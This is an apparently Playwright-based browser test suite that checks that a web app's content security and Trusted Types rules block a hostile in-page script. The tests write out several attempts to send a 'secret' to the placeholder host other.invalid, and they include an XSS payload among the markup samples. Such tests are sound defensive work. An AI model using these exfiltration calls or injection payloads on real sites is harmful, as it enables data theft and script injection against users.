// What stands between a record and the network, attacked from inside the page.
import { expect, test } from './support/app';

test.describe('hostile script in the page', () => {
  test.use({ sendHeaders: true });

  test('j01 cannot send anything to another host', async ({ app }) => {
    app.provokesViolations = true;
    await app.open();
    const outcomes = await app.page.evaluate(async () => {
      const other = 'https://other.invalid/?secret';
      const blocked = async (attempt: () => Promise<unknown>) => attempt().then(() => false, () => true);
      return {
        fetch: await blocked(() => fetch(other)),
        beacon: await blocked(async () => navigator.sendBeacon(other, 'secret') || Promise.reject(new Error())),
        socket: await blocked(() => new Promise((open, failed) => {
          const socket = new WebSocket('wss://other.invalid/');
          socket.onopen = open;
          socket.onerror = failed;
        })),
        image: await blocked(() => new Promise((open, failed) => {
          const image = new Image();
          image.onload = open;
          image.onerror = failed;
          image.src = other;
        })),
        window: window.open(other) === null,
      };
    });
    expect(outcomes).toMatchObject({ fetch: true, socket: true, image: true, window: true });
    expect(await app.page.evaluate(() => window.__fieldfareViolations)).toBeGreaterThanOrEqual(3);
    await app.expectFault(/./);
  });

  test('j01 cannot leave the app for another host', async ({ app }) => {
    await app.open();
    await app.page.evaluate(() => {
      location.href = 'https://other.invalid/?secret';
    });
    await app.page.evaluate(() => {
      location.hash = '#/cases';
    });
    await expect(app.page).toHaveURL(`${app.host.url}#/cases`);
  });

  test('j05 cannot run text as code or load another script', async ({ app }) => {
    app.provokesViolations = true;
    await app.open();
    const refused = await app.page.evaluate(async () => {
      const throws = (attempt: () => unknown) => {
        try {
          attempt();
          return false;
        } catch {
          return true;
        }
      };
      return {
        script: throws(() => (document.createElement('script').src = 'https://other.invalid/a.js')),
        own: throws(() => (document.createElement('script').src = 'icons/icon.svg')),
        text: throws(() => (document.createElement('script').text = '1')),
        worker: throws(() => new Worker('boot.js')),
        timer: throws(() => setTimeout('1')),
        policy: throws(() => window.trustedTypes.createPolicy('default', {})),
        // The debugger that runs this may eval; what it leaves behind may not.
        eval: await new Promise((done) => setTimeout(() => done(throws(() => window.eval('1'))), 0)),
        sealed: !throws(() => (document.createElement('script').src = 'crypto-worker_loader.js')),
      };
    });
    expect(refused).toEqual({
      script: true, own: true, text: true, worker: true, timer: true, policy: true, eval: true, sealed: true,
    });
    await app.expectFault(/./);
  });
});

const MARKUP = ['text', '<p>text</p>', '<b hidden></b>', '<script>1</script>', '<img src=x onerror=alert(1)>', '<!-- x -->'];

test('j05 no text becomes markup, whatever it is', async ({ app }) => {
  app.provokesViolations = true;
  await app.open();
  const accepted = await app.page.evaluate(
    (samples) =>
      samples.filter((sample) => {
        const ways = [
          () => (document.createElement('template').innerHTML = sample),
          () => (document.createElement('p').outerHTML = sample),
          () => document.createElement('p').insertAdjacentHTML('beforeend', sample),
          () => document.createRange().createContextualFragment(sample),
          () => new DOMParser().parseFromString(sample, 'text/html'),
        ];
        return ways.some((way) => {
          try {
            way();
            return true;
          } catch {
            return false;
          }
        });
      }),
    MARKUP,
  );
  expect(accepted).toEqual([]);
  await app.expectFault(/./);
});
